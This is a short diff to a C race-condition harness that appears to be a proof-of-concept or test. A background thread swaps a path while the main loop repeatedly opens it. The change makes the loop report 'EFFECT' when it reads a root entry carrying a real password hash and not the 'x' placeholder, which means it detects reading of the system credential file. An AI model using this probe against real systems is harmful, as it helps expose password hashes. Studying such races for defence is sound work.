@@ -19,12 +19,13 @@ static void *swap(void *unused) {
 
 int main(void) {
   pthread_t other;
-  char first[5];
+  char first[6];
   pthread_create(&other, NULL, swap, NULL);
   for (int count = 0; count < 3000; count++) {
     int fd = open((const char *)path, O_RDONLY);
     if (fd < 0) continue;
-    if (read(fd, first, 5) == 5 && memcmp(first, "root:", 5) == 0 && lseek(fd, 0, SEEK_END) == 0) puts("EFFECT");
+    // The list of users says "x" where the hashes are.
+    if (read(fd, first, 6) == 6 && memcmp(first, "root:", 5) == 0 && first[5] != 'x') puts("EFFECT");
     close(fd);
   }
   done = 1;
